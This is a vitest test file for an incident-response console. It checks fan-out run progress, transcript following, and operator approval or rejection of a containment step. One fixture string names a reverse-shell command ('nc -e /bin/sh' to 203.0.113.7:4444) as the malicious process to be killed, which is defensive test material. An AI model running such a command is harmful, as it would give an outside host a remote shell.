import { afterEach, describe, expect, it } from 'vitest';
import type { RunEvent } from '../../../../src/protocol/event.js';
import { renderConsole, type RenderedConsole } from '../../support/frame.js';
import { CONNECTED, snapshot } from '../findings/fixtures.js';
import { agentRun, approvalRun, fanOutRun, NOW, runId } from './fixtures.js';

const SNAP = '../../../../snapshots';
let c: RenderedConsole | undefined;
afterEach(() => c?.unmount());

async function runView(key: string, opts: { width?: number; height?: number; role?: 'viewer' | 'operator' } = {}) {
  c = await renderConsole({
    role: opts.role,
    width: opts.width ?? 100,
    height: opts.height ?? 30,
    events: [
      CONNECTED,
      snapshot({ orchestrationRuns: [fanOutRun(), approvalRun()], runs: [agentRun(7, { status: 'running', ended_at: null, prompt: 'check the disks', findings: 1 })] }),
      { type: 'ui/jump', view: 'runs' },
      { type: 'ui/push', frame: { view: 'run', key } },
    ],
  });
  return c;
}

/** Stamped events of run `id`. */
function events(id: string, bodies: Record<string, unknown>[]): RunEvent[] {
  return bodies.map((b, i) => ({ ts: NOW - 10_000 + i * 1000, host: 'web-03', agent: 'ioc-sweep', run_id: id, seq: i, type: 'text', ...b }) as RunEvent);
}

describe('run view: a fan-out half done', () => {
  it('shows one dot per host (glyph per state), a bar 5/10, and the failed host with its error', async () => {
    const c = await runView(`orch:${fanOutRun().id}`);
    const frame = c.frame();
    expect(frame).toContain('●●✗●●……◌◌◌');
    expect(frame).toContain('[█████░░░░░] 5/10  1 failed');
    expect(frame).toContain('✗ web-03  collector ps exited 1: permission denied');
    expect(frame).toMatch(/✓ select\s+inventory\s+completed/);
    expect(frame).toMatch(/· contain\s+contain\s+pending/);
    await expect(frame).toMatchFileSnapshot(`${SNAP}/run-fanout.txt`);
  });

  it('reads at 80×24', async () => {
    const c = await runView(`orch:${fanOutRun().id}`, { width: 80, height: 24 });
    expect(c.frame()).toContain('[█████░░░░░] 5/10');
    expect(c.frame().split('\n').length).toBeLessThanOrEqual(24);
    await expect(c.frame()).toMatchFileSnapshot(`${SNAP}/run-fanout-80x24.txt`);
  });

  it('starts on the running step; j moves over its hosts; t follows the selected host run transcript, newest at the bottom', async () => {
    const c = await runView(`orch:${fanOutRun().id}`);
    expect(c.frame()).toMatch(/› +● web-01 completed +r_01JHK3Q40001/);
    await c.press('j', 'j');
    expect(c.frame()).toMatch(/› +✗ web-03 failed +r_01JHK3Q40003/);
    await c.press('t');
    expect(c.calls).toContainEqual({ name: 'followTranscript', args: [runId(3)] });
    expect(c.frame()).toContain(`Transcript ${runId(3)}  waiting for events…`);
    await c.dispatch({
      type: 'transcript',
      runId: runId(3),
      next: 4,
      ended: true,
      events: events(runId(3), [
        { type: 'run_start', agent: 'ioc-sweep', version: '1.0.0', prompt: 'Look for 203.0.113.7' },
        { type: 'collector_result', name: 'ps', bytes: 0, exit_code: 1, error: 'permission denied' },
        { type: 'text', text: 'could not list processes \u001b[31mhere\u001b[0m' },
        { type: 'run_end', status: 'failed', findings: 0, error: 'collector ps exited 1: permission denied' },
      ]),
    });
    const frame = c.frame();
    expect(frame).toContain('ended · 4 events');
    const lines = frame.split('\n');
    const start = lines.findIndex((l) => l.includes('run_start'));
    const end = lines.findIndex((l) => l.includes('run_end'));
    expect(start).toBeGreaterThan(0);
    expect(end).toBeGreaterThan(start);
    expect(frame).toContain('could not list processes \\x1b[31mhere\\x1b[0m');
    await expect(frame).toMatchFileSnapshot(`${SNAP}/run-transcript.txt`);
    // t again stops following; enter opens the host's agent run.
    await c.press('t');
    expect(c.calls.at(-1)).toEqual({ name: 'stopTranscript', args: [] });
    await c.press('enter');
    expect(c.store.getState().ui.stack.at(-1)).toEqual({ view: 'run', key: `agent:${runId(3)}` });
  });

  it('a with no step waiting says so', async () => {
    const c = await runView(`orch:${fanOutRun().id}`);
    await c.press('a');
    expect(c.frame()).toContain(`no step of ${fanOutRun().id} is waiting for approval`);
    expect(c.frame()).not.toContain('[y/n]');
  });
});

describe('run view: an approval waiting', () => {
  it('shows the rendered prompt, inputs and targets; a → confirm → y approves the step', async () => {
    const c = await runView(`orch:${approvalRun().id}`);
    expect(c.frame()).toContain('waiting for approval: a approve · r reject');
    expect(c.frame()).toContain('prompt   Kill process 4242 (nc -e /bin/sh 203.0.113.7 4444) on web-03');
    expect(c.frame()).toContain('inputs   pid=4242 ip=203.0.113.7');
    expect(c.frame()).toContain('targets  web-03');
    // The cursor starts on the waiting step.
    expect(c.frame()).toMatch(/› ⏸ contain/);
    await expect(c.frame()).toMatchFileSnapshot(`${SNAP}/run-approval.txt`);
    await c.press('a');
    expect(c.frame()).toContain('Approve step contain of c2-callback-triage? It will run as shown. [y/n]');
    expect(c.calls.some((x) => x.name === 'approveStep')).toBe(false);
    await c.press('y');
    expect(c.calls.filter((x) => x.name === 'approveStep').map((x) => x.args)).toEqual([[approvalRun().id, 'contain']]);
  });

  it('r asks before rejecting, and n leaves the step waiting', async () => {
    const c = await runView(`orch:${approvalRun().id}`);
    await c.press('r');
    expect(c.frame()).toContain('Reject step contain of c2-callback-triage? The run will fail. [y/n]');
    await c.press('n');
    expect(c.frame()).not.toContain('[y/n]');
    expect(c.calls.some((x) => x.name === 'rejectStep')).toBe(false);
    await c.press('r', 'y');
    expect(c.calls.filter((x) => x.name === 'rejectStep').map((x) => x.args)).toEqual([[approvalRun().id, 'contain']]);
  });

  it('reads at 80×24 with the confirm question', async () => {
    const c = await runView(`orch:${approvalRun().id}`, { width: 80, height: 24 });
    await c.press('a');
    expect(c.frame()).toContain('targets  web-03');
    expect(c.frame()).toContain('[y/n]');
    await expect(c.frame()).toMatchFileSnapshot(`${SNAP}/run-approval-80x24.txt`);
  });

  it('a viewer sees why approving is disabled', async () => {
    const c = await runView(`orch:${approvalRun().id}`, { role: 'viewer' });
    await c.press('a');
    expect(c.frame()).toContain('approve the waiting step — needs the operator role; you are viewer');
    expect(c.frame()).not.toContain('[y/n]');
  });
});

describe('run view: an agent run', () => {
  it('shows its fields and follows its transcript from the start, stopping when left', async () => {
    const c = await runView(`agent:${runId(7)}`);
    expect(c.calls).toContainEqual({ name: 'followTranscript', args: [runId(7)] });
    expect(c.frame()).toMatch(/status\s+… running/);
    expect(c.frame()).toMatch(/prompt\s+check the disks/);
    await c.dispatch({ type: 'transcript', runId: runId(7), next: 2, ended: false, events: events(runId(7), [{ type: 'run_start', agent: 'host-check', version: '1', prompt: 'check the disks' }, { type: 'tool_call', tool: 'bash', input: { command: 'df -h' } }]) });
    expect(c.frame()).toContain('live · 2 events');
    expect(c.frame()).toContain('bash {"command":"df -h"}');
    await expect(c.frame()).toMatchFileSnapshot(`${SNAP}/run-agent.txt`);
    await c.press('c');
    expect(c.frame()).toContain(`Cancel ${runId(7)}? [y/n]`);
    await c.press('y', 'esc');
    expect(c.calls.filter((x) => x.name === 'cancelRun').map((x) => x.args)).toEqual([[runId(7)]]);
    expect(c.calls.at(-1)).toEqual({ name: 'stopTranscript', args: [] });
  });
});
